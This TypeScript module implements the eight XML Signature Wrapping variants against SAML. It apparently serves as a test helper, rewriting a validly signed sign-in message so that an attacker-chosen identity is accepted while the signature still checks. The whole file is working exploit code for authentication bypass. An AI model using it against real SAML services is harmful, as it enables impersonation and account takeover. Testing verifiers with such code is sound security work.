/**
 * @module The eight variants of XML signature wrapping (Somorovsky et al., "On Breaking SAML", as tools number them): a
 * good message is moved to where a verifier finds it, and another person is put where a reader looks.
 */
import type { Document, Element } from '@xmldom/xmldom'
import { findElement, parseXml, writeXml } from './upstream-saml-idp.js'

const ds = 'http://www.w3.org/2000/09/xmldsig#'
const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol'

export interface Wrapping {
  readonly name: string
  /** What the good message must have signed. */
  readonly signs: 'Response' | 'Assertion'
  readonly wrap: (document: Document, evilName: string) => void
}

/** The message of a good sign-in, rebuilt so that `evilName` would be signed in. */
export function wrapSignature({ wrap }: Wrapping, xml: string, evilName: string): string {
  const document = parseXml(xml)
  wrap(document, evilName)
  return writeXml(document)
}

export const wrappings: readonly Wrapping[] = [
  {
    name: 'XSW1: the signed Response inside the Signature of the other',
    signs: 'Response',
    wrap: (document, evilName) => {
      const root = findElement(document, 'Response')
      const original = copyWithoutSignature(root)
      makeEvil(root, evilName)
      signatureOf(root).appendChild(original)
    },
  },
  {
    name: 'XSW2: the signed Response before the Signature of the other',
    signs: 'Response',
    wrap: (document, evilName) => {
      const root = findElement(document, 'Response')
      const original = copyWithoutSignature(root)
      makeEvil(root, evilName)
      root.insertBefore(original, signatureOf(root))
    },
  },
  {
    name: 'XSW3: another assertion before the signed one',
    signs: 'Assertion',
    wrap: (document, evilName) => {
      const signed = findElement(document, 'Assertion')
      const evil = copyWithoutSignature(signed)
      makeEvil(evil, evilName)
      signed.parentNode?.insertBefore(evil, signed)
    },
  },
  {
    name: 'XSW4: the signed assertion inside another',
    signs: 'Assertion',
    wrap: (document, evilName) => {
      const signed = findElement(document, 'Assertion')
      const evil = copyWithoutSignature(signed)
      makeEvil(evil, evilName)
      signed.parentNode?.insertBefore(evil, signed)
      evil.appendChild(signed)
    },
  },
  {
    name: 'XSW5: the signature in another assertion, the signed one at the end',
    signs: 'Assertion',
    wrap: (document, evilName) => {
      const evil = findElement(document, 'Assertion')
      const original = copyWithoutSignature(evil)
      makeEvil(evil, evilName)
      evil.parentNode?.appendChild(original)
    },
  },
  {
    name: 'XSW6: the signed assertion inside the Signature of another',
    signs: 'Assertion',
    wrap: (document, evilName) => {
      const evil = findElement(document, 'Assertion')
      const original = copyWithoutSignature(evil)
      makeEvil(evil, evilName)
      signatureOf(evil).appendChild(original)
    },
  },
  {
    name: 'XSW7: another assertion in Extensions',
    signs: 'Assertion',
    wrap: (document, evilName) => {
      const signed = findElement(document, 'Assertion')
      const evil = copyWithoutSignature(signed)
      makeEvil(evil, evilName, false)
      const extensions = document.createElementNS(protocol, 'samlp:Extensions')
      extensions.appendChild(evil)
      signed.parentNode?.insertBefore(extensions, signed)
    },
  },
  {
    name: 'XSW8: the signed assertion in an Object of the Signature of another',
    signs: 'Assertion',
    wrap: (document, evilName) => {
      const evil = findElement(document, 'Assertion')
      const original = copyWithoutSignature(evil)
      makeEvil(evil, evilName, false)
      const object = document.createElementNS(ds, 'ds:Object')
      object.appendChild(original)
      signatureOf(evil).appendChild(object)
    },
  },
]

function signatureOf(element: Element): Element {
  const found = Array.from(element.childNodes).find(({ localName }) => localName === 'Signature')
  if (found === undefined) throw new Error('not signed')
  return found as Element
}

function copyWithoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element
  copy.removeChild(signatureOf(copy))
  return copy
}

/** Another person and, where a reader needs one, another id. */
function makeEvil(element: Element, name: string, newId = true): void {
  if (newId) element.setAttribute('ID', '_evil')
  const nameId = element.getElementsByTagNameNS('*', 'NameID')[0]
  if (nameId !== undefined) nameId.textContent = name
}
